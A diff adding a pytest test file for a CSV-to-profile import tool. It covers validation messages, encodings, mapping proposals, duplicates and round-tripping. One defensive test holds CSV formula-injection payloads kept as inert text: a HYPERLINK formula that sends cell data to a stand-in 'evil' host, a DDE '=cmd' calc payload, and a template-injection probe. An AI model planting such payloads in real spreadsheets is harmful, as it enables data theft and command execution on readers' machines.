@@ -1,0 +1,468 @@
+"""`better-fit import`: every row becomes a valid profile or is reported; nothing is overwritten or lost on the way."""
+
+from __future__ import annotations
+
+import codecs
+import re
+import time
+import tracemalloc
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from build_tools.__main__ import run
+from build_tools.load import load
+from build_tools.machines import files as machine_files
+from build_tools.page import Site
+from build_tools.parse import directory_or_raise, read_directory, read_vocabulary
+from build_tools.rows import shorten
+from build_tools.sheet import Row, Sheet, Unreadable
+
+ROOT = Path(__file__).parent.parent
+WORDS = """\
+facets:
+  craft:
+    label: Craft
+    question: What?
+    required: true
+    primary: true
+    terms:
+      lawns: {label: Lawn care, definition: Grass., synonyms: [mowing]}
+      moss: {label: Moss walls, definition: Moss.}
+  style:
+    label: Style
+    question: How?
+    required: true
+    terms:
+      quiet: {label: Quiet}
+  place:
+    label: Place
+    question: Where?
+    terms:
+      denver: {label: Denver}
+      usa: {label: United States, synonyms: [USA]}
+"""
+MAPPING = """\
+fields:
+  name: {column: Name}
+  summary: {column: Summary, shorten: true}
+  website: {column: Site}
+  email: {column: Mail}
+  craft:
+    column: Craft
+    split: ";"
+    terms:
+      - {value: Turf, means: [lawns]}
+      - {value: Pianos, means: skip}
+      - {value: Roofs, means: ask}
+  style: {value: [quiet]}
+"""
+HEADER = "Name,Summary,Site,Mail,Craft"
+ACME = "Acme,A firm.,https://acme.example,a@acme.example,Lawn care"
+
+
+@pytest.fixture
+def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    (tmp_path / "partners").mkdir()
+    (tmp_path / "directory").mkdir()
+    (tmp_path / "directory/vocabulary.yml").write_text(WORDS, "utf-8")
+    monkeypatch.chdir(tmp_path)
+    return tmp_path
+
+
+def sheet(folder: Path, *rows: str, header: str = HEADER, mapping: str | None = MAPPING, end: str = "\n") -> Path:
+    path = folder / "firms.csv"
+    path.write_bytes(end.join([header, *rows, ""]).encode())
+    if mapping is not None:
+        (folder / "firms.mapping.yml").write_text(mapping, "utf-8")
+    return path
+
+
+def profiles(folder: Path) -> dict[str, object]:
+    return {path.stem: load(path.read_bytes()).value for path in sorted((folder / "partners").iterdir())}
+
+
+@pytest.fixture
+def bring(capsys):
+    def call(*words: str) -> tuple[int, str]:
+        code = run(["import", "firms.csv", *words])
+        printed = capsys.readouterr()
+        return code, printed.out + printed.err
+
+    return call
+
+
+def test_a_dry_run_writes_nothing_and_says_what_would_happen(folder, bring):
+    sheet(folder, ACME)
+    assert bring() == (0, "1 row: 1 would be written, 0 reported\n    nothing is written yet: add --apply\n")
+    assert profiles(folder) == {}
+
+
+def test_a_row_becomes_a_profile_that_check_accepts_and_a_second_run_changes_nothing(folder, bring):
+    sheet(folder, ACME)
+    assert bring("--apply") == (0, "1 row: 1 written, 0 reported\n")
+    assert profiles(folder) == {
+        "acme": {
+            "name": "Acme",
+            "summary": "A firm.",
+            "website": "https://acme.example",
+            "contact": {"email": "a@acme.example"},
+            "craft": ["lawns"],
+            "style": ["quiet"],
+        }
+    }
+    assert read_directory(folder)[1] == []
+    before = (folder / "partners/acme.yml").stat()
+    assert bring("--apply") == (0, "1 row: 0 written, 1 there already, 0 reported\n")
+    assert (folder / "partners/acme.yml").stat() == before
+
+
+def test_a_profile_that_was_changed_since_is_left_as_it_is_and_named(folder, bring):
+    sheet(folder, ACME)
+    bring("--apply")
+    profile = folder / "partners/acme.yml"
+    profile.write_text(profile.read_text() + "availability: open\n")
+    code, said = bring("--apply")
+    assert code == 0
+    assert "left as it is: row 1" in said
+    assert "availability: open" in profile.read_text()
+
+
+@pytest.mark.parametrize(
+    "row,said",
+    [
+        (ACME.replace("https://acme.example", "acme"), "row 1, column Site, 'acme': 'acme' is not an https address"),
+        (ACME.replace("A firm.", ""), "row 1, column Summary: nothing in this row gives 'summary'"),
+        (ACME.replace("a@acme.example", "call us"), "row 1, column Mail, 'call us': 'call us' is not a plain mail"),
+        (ACME.replace("a@acme.example", ""), "nothing in this row gives 'contact'"),
+        (ACME.replace("Lawn care", "Roofs"), "column Craft, 'Roofs': what it means for craft is not decided yet"),
+        (ACME.replace("Lawn care", "Lawns; Wels"), "column Craft, 'Wels': what it means for craft is not decided"),
+        (ACME.replace("Acme", "<b>"), "column Name, '<b>': names and labels can't hold '<' or '>'"),
+        (ACME.replace("Acme", "A\u202eb"), "U+202E"),
+        (ACME.replace("A firm.", "A \x07 firm."), "U+0007 at character 3 is a control character"),
+        (ACME + ",more", "row 1: 6 cells, and the header names 5"),
+        ("Acme,A firm.", "row 1: 2 cells, and the header names 5"),
+        ('Acme,"A "firm".",x,y,z', "row 1: a quote inside a cell is not doubled"),
+        ('Acme,"A firm.,https://acme.example', "row 1: a quote opens on line 2 and is never closed"),
+    ],
+)
+def test_a_row_that_can_not_become_a_profile_is_reported_with_its_place_and_reason(folder, bring, row, said):
+    sheet(folder, row, "Good,Fine.,https://good.example,g@good.example,moss" * ("never closed" not in said))
+    code, printed = bring("--apply")
+    assert code == 1
+    assert printed.startswith("firms.csv:2: row 1")
+    assert said in printed
+    assert "\x07" not in printed
+    assert "\u202e" not in printed
+    assert "1 reported" in printed
+    assert list(profiles(folder)) == ["good"] * ("never closed" not in said)
+
+
+def test_every_fault_of_a_row_is_told_at_once(folder, bring):
+    sheet(folder, "<b>,,ftp://x,@,Roofs")
+    _, said = bring()
+    assert [column for column in ("Name", "Summary", "Site", "Mail", "Craft") if f"column {column}" not in said] == []
+
+
+def test_what_the_mapping_leaves_out_is_named(folder, bring):
+    sheet(folder, ACME.replace("Lawn care", "Turf; pianos"))
+    code, said = bring()
+    assert code == 0
+    assert "column Craft: left out, as the mapping says: row 1\n    'pianos' ×1" in said
+
+
+def test_http_and_bare_addresses_are_written_with_https_and_named(folder, bring):
+    rows = [ACME.replace("https", "http"), "B,B.,b.example/x,b@b.example,moss"]
+    sheet(folder, *rows)
+    code, said = bring("--apply")
+    assert code == 0
+    assert "column Site: http or no scheme: written with https: rows 1, 2" in said
+    assert [p["website"] for p in profiles(folder).values()] == ["https://acme.example", "https://b.example/x"]
+
+
+@pytest.mark.parametrize(
+    "cell,kept",
+    [
+        ('=HYPERLINK("http://evil?"&A1)', '=HYPERLINK("http://evil?"&A1)'),
+        ("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
+        ("@SUM(1+1)", "@SUM(1+1)"),
+        ("+1 more", "+1 more"),
+        ("- a dash", "- a dash"),
+        ("＝1+1", "＝1+1"),
+        ("'=1+1", "=1+1"),
+        ("'tis", "'tis"),
+        ("{{ config }}", "{{ config }}"),
+        ("no", "no"),
+        ("#1: the best", "#1: the best"),
+    ],
+)
+def test_cells_that_look_like_commands_stay_the_text_that_they_are(folder, bring, cell, kept):
+    quoted = cell.replace('"', '""')
+    sheet(folder, f'Acme,"{quoted}",https://acme.example,a@acme.example,moss')
+    code, said = bring("--apply")
+    assert code == 0
+    assert profiles(folder)["acme"]["summary"] == kept
+    assert ("begins like a formula" in said) == (kept[0] in "=@＝")
+    assert directory_or_raise(folder).partners["acme"].summary == kept
+
+
+@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
+@pytest.mark.parametrize("sign", [",", ";", "\t", "|"])
+@pytest.mark.parametrize("mark", [b"", codecs.BOM_UTF8])
+def test_every_kind_of_csv_says_the_same(folder, bring, end, sign, mark):
+    cells = ["Ä & Ö", f"Quotes {sign} and", "https://acme.example", "a@acme.example", "mowing"]
+    rows = [HEADER.split(","), cells]
+    text = end.join(sign.join(f'"{cell}"' if sign in cell else cell for cell in row) for row in [*rows, [""]])
+    path = sheet(folder)
+    path.write_bytes(mark + text.encode())
+    assert bring("--apply")[0] == 0
+    assert profiles(folder)["a-and-o"]["summary"] == " ".join(f"Quotes {sign} and".split())
+
+
+def test_excel_s_own_line_about_the_sign_is_no_row(folder, bring):
+    sheet(folder, ACME.replace(",", ";"), header="sep=;\n" + HEADER.replace(",", ";"))
+    assert bring()[0] == 0
+
+
+def test_a_quoted_cell_keeps_its_quotes_and_its_lines_become_one(folder, bring):
+    sheet(folder, 'Acme,"A ""fine""\r\nfirm.",https://acme.example,a@acme.example,moss', end="\r\n")
+    assert bring("--apply")[0] == 0
+    assert profiles(folder)["acme"]["summary"] == 'A "fine" firm.'
+
+
+@pytest.mark.parametrize(
+    "data,said",
+    [
+        (
+            "Name\nMüller\n".encode("cp1252"),
+            "the byte 0xFC at offset 6 (line 2) can't be read\n    it looks like cp1252",
+        ),
+        ("Name\nMüller\n".encode("utf-16"), "it looks like utf-16: add --encoding utf-16"),
+        ("Name\nMuller\n".encode("utf-16-le"), "it looks like utf-16-le"),
+        (b"Name\nM\0ller\n", "a zero byte at offset 6"),
+        (b"", "there is no header"),
+        (b"Name,Name\n", "two columns are called 'Name'"),
+        (b"A\x1b[31m,b\n", "can't be a column's name"),
+    ],
+)
+def test_a_file_that_is_no_such_sheet_is_refused_with_what_to_do(folder, bring, data, said):
+    sheet(folder).write_bytes(data)
+    code, printed = bring()
+    assert code == 2
+    assert said in printed
+    assert "\x1b" not in printed
+
+
+def test_another_encoding_can_be_named_and_is_kept_in_the_mapping(folder, bring):
+    path = sheet(folder, mapping=None)
+    path.write_bytes(f"{HEADER}\n{ACME.replace('Acme', 'Müller')}\n".encode("cp1252"))
+    assert bring()[0] == 2
+    assert not (folder / "firms.mapping.yml").exists()
+    bring("--encoding", "cp1252")
+    mapping = folder / "firms.mapping.yml"
+    assert "encoding: cp1252" in mapping.read_text()
+    mapping.write_text(mapping.read_text().replace("style: {value: []}", "style: {value: [quiet]}"))
+    assert bring("--apply") == (0, "1 row: 1 written, 0 reported\n")
+    assert profiles(folder)["muller"]["name"] == "Müller"
+
+
+@pytest.mark.parametrize(
+    "words", [["nothing.csv"], ["."], ["firms.csv", "--encoding", "rot13"], ["firms.csv", "--encoding", "undefined"]]
+)
+def test_a_call_that_can_not_work_ends_with_two(folder, capsys, words):
+    sheet(folder, ACME)
+    assert run(["import", *words]) == 2
+    assert "Traceback" not in capsys.readouterr().err
+
+
+def test_a_mapping_is_proposed_from_columns_and_values_and_never_written_over(folder, bring):
+    rows = [
+        f"Firm {n},www.f{n}.example,{craft},{city},USA,Words about {n}."
+        for n, craft in enumerate(["Mowing", "mowing/moss walls", "Lawn caer", "Pianos", "Mowing", "Lawn care"])
+        for city in ["Denver"]
+    ]
+    sheet(folder, *rows, header="Company,Web,What they do,City,Country,Extra", mapping=None)
+    code, said = bring()
+    assert code == 1
+    assert said.startswith("firms.mapping.yml is written")
+    assert "nothing fills 'style' yet" in said
+    text = (folder / "firms.mapping.yml").read_text("utf-8")
+    read = load(text.encode())
+    assert read.findings == ()
+    fields = read.value["fields"]
+    assert fields["name"] == {"column": "Company"}
+    assert fields["website"] == fields["contact_url"] == {"column": "Web"}
+    assert fields["craft"][0]["column"] == "What they do"
+    assert fields["craft"][0]["split"] == "/"
+    assert {each["value"]: each["means"] for each in fields["craft"][0]["terms"]} == {
+        "Pianos": "ask",
+        "Lawn caer": ["lawns"],
+        "Mowing": ["lawns"],
+        "mowing": ["lawns"],
+        "moss walls": ["moss"],
+        "Lawn care": ["lawns"],
+    }
+    assert "by spelling, like 'Lawn care': look at it" in text
+    assert {source["column"] for source in fields["place"]} == {"City", "Country"}
+    assert "Columns that nothing takes: Extra." in text
+    decided = text.replace("style: {value: []}", "style: {value: [quiet]}").replace("means: ask  #", "means: [moss]  #")
+    (folder / "firms.mapping.yml").write_text(decided, "utf-8")
+    code, said = bring("--apply")
+    assert (code, len(profiles(folder))) == (0, 6)
+    assert (folder / "firms.mapping.yml").read_text("utf-8") == decided
+    assert read_directory(folder)[1] == []
+
+
+def test_nothing_is_written_before_the_mapping_was_read(folder, bring):
+    sheet(folder, ACME, mapping=None)
+    code, said = bring("--apply")
+    assert code == 2
+    assert "read the mapping" in said
+    assert profiles(folder) == {}
+
+
+@pytest.mark.parametrize(
+    "change,said",
+    [
+        (
+            ("column: Site", "column: Sitee"),
+            ":4:12: fields.website: there is no column 'Sitee'\n    did you mean 'Site'?",
+        ),
+        (("website:", "web:"), "'web' can't be filled from a sheet"),
+        (("[quiet]", "[quit]"), "'quit' is not a term of style\n    did you mean 'quiet'?"),
+        (("[lawns]", "[lawn]"), "'lawn' is not a term of craft\n    did you mean 'lawns'?"),
+        (("means: ask", "means: maybe"), "a list of terms was expected here"),
+        (("{column: Mail}", "{column: Mail, text: '{Mail}'}"), "email needs one of column, text and value"),
+        (("  style: {value: [quiet]}\n", ""), "nothing fills 'style'"),
+        (("column: Craft", "column: &a Craft"), "anchors (&) and aliases (*) are not allowed"),
+        (("fields:", "fieldz:"), "did you mean 'fields'?"),
+    ],
+)
+def test_a_mapping_that_is_wrong_is_told_where_and_what_to_write(folder, bring, change, said):
+    assert change[0] in MAPPING
+    sheet(folder, ACME, mapping=MAPPING.replace(*change))
+    code, printed = bring("--apply")
+    assert code == 1
+    assert said in printed
+    assert "firms.mapping.yml:" in printed
+    assert profiles(folder) == {}
+
+
+def test_two_rows_of_one_firm_and_names_that_look_alike_are_reported(folder, bring):
+    other = "A.C.M.E.,Other.,https://other.example,o@other.example,moss"
+    sheet(folder, ACME, ACME, other)
+    code, said = bring("--apply")
+    assert code == 1
+    assert "row 2, 'Acme': row 1 is this firm already" in said
+    assert "row 3, 'A.C.M.E.': row 1 is this firm already, or looks like it" in said
+    assert list(profiles(folder)) == ["acme"]
+    assert "0 written, 1 there already, 2 reported" in bring("--apply")[1]
+
+
+def test_a_firm_that_is_there_under_another_site_is_not_taken_for_the_row_s(folder, bring):
+    sheet(folder, ACME)
+    bring("--apply")
+    sheet(folder, ACME.replace("acme.example", "acme-two.example"))
+    code, said = bring("--apply")
+    assert code == 1
+    assert "looks like 'Acme' of partners/acme.yml, which has another website" in said
+
+
+def test_names_without_latin_letters_get_their_file_s_name_from_the_site(folder, bring):
+    sheet(folder, ACME.replace("Acme", "株式会社緑").replace("https://acme", "https://www.midori"))
+    assert bring("--apply")[0] == 0
+    assert list(profiles(folder)) == ["midori"]
+
+
+def test_a_column_may_name_the_files(folder, bring):
+    rows = [f"{ACME},my-acme", "B,B.,https://b.example,b@b.example,moss,No Slug"]
+    sheet(folder, *rows, header=f"{HEADER},Id", mapping=f"{MAPPING}  slug: {{column: Id}}\n")
+    code, said = bring("--apply")
+    assert (code, list(profiles(folder))) == (1, ["my-acme"])
+    assert "column Id, 'No Slug': 'No Slug' can't be a file's name here" in said
+
+
+def test_our_own_spreadsheet_comes_back_as_it_went_out(folder, bring, tmp_path):
+    """Not everything is in the sheet, but what is in it returns unchanged, formula signs included."""
+    (folder / "directory/vocabulary.yml").write_bytes((ROOT / "directory/vocabulary.yml").read_bytes())
+    directory = directory_or_raise(ROOT)
+    site = Site("X", "", "", __import__("datetime").date(2026, 1, 1))
+    out = dict(machine_files(directory, site, ()))["partners.csv"]
+    facets = "".join(f"  {f}: {{column: {f}, split: '; '}}\n" for f in directory.vocabulary.facets)
+    plain = "slug name summary website email phone contact_url person budget_currency budget_from budget_to budget_per"
+    fields = "".join(f"  {f}: {{column: {f}}}\n" for f in [*plain.split(), "availability", "confirmed"])
+    sheet(folder, mapping=f"fields:\n{fields}{facets}").write_bytes(out.encode())
+    code, said = bring("--apply")
+    assert (code, said) == (0, f"{len(directory.active)} rows: {len(directory.active)} written, 0 reported\n")
+    back = directory_or_raise(folder).partners
+    for slug, partner in directory.active.items():
+        same = back[slug]
+        assert (same.name, same.summary, same.contact, same.terms, same.budget, same.confirmed) == (
+            partner.name, partner.summary, partner.contact, partner.terms, partner.budget, partner.confirmed
+        )  # fmt: skip
+
+
+CELLS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=60)
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(st.lists(st.tuples(CELLS, CELLS, CELLS), max_size=4))
+def test_whatever_is_in_the_cells_each_row_is_a_profile_or_reported(folder, bring, rows):
+    import csv
+    import io
+
+    for path in (folder / "partners").iterdir():
+        path.unlink()
+    text = io.StringIO(newline="")
+    writer = csv.writer(text)
+    writer.writerow(HEADER.split(","))
+    for place, (name, summary, craft) in enumerate(rows):
+        writer.writerow([name, summary, f"https://f{place}.example", "a@b.example", craft or "moss"])
+    sheet(folder).write_text(text.getvalue(), "utf-8", newline="")
+    mapping = MAPPING.replace("split:", "otherwise: [moss]\n    split:")
+    (folder / "firms.mapping.yml").write_text(mapping, "utf-8")
+    code, said = bring("--apply")
+    assert code in (0, 1)
+    sums = re.search(r"^(\d+) rows?: (\d+) written, (\d+) reported", said, re.MULTILINE)
+    assert sums is not None
+    assert int(sums[1]) == len(rows) == int(sums[2]) + int(sums[3])
+    assert len(profiles(folder)) == int(sums[2])
+    assert [p for p in read_directory(folder)[1] if p.severity == "error"] == []
+
+
+def test_a_hundred_thousand_rows_take_seconds_and_little_memory(tmp_path):
+    path = tmp_path / "many.csv"
+    rows = (f"Firm {n},Does things.,https://f{n}.example,f@f{n}.example,moss" for n in range(100_000))
+    path.write_text("\n".join([HEADER, *rows]), "utf-8")
+    started = time.process_time()
+    tracemalloc.start()
+    count = sum(isinstance(row, Row) for row in Sheet(path))
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert count == 100_000
+    assert peak < 100_000_000
+    assert time.process_time() - started < 15
+
+
+def test_a_quote_that_swallows_rows_names_all_of_their_lines(tmp_path):
+    path = tmp_path / "q.csv"
+    path.write_text('a,b\n1,"x\n2,y\n3,"z\n4,5\n', "utf-8")
+    rows = list(Sheet(path))
+    assert [(row.line, row.last) for row in rows if isinstance(row, Unreadable)] == [(2, 4)]
+    assert [row.cells for row in rows if isinstance(row, Row)] == [{"a": "4", "b": "5"}]
+
+
+def test_a_summary_keeps_whole_sentences_or_says_that_it_goes_on():
+    sentence = "Twenty characters xx."
+    assert shorten(" ".join([sentence] * 20)) == " ".join([sentence] * 9)
+    assert len(shorten("word " * 100)) <= 200
+    assert shorten("word " * 100).endswith("word…")
+
+
+def test_a_vocabulary_that_is_broken_is_reported_first(folder, bring):
+    sheet(folder, ACME)
+    (folder / "directory/vocabulary.yml").write_text("facets: {}\n")
+    assert bring()[0] == 1
+    assert read_vocabulary(folder)[1] != []
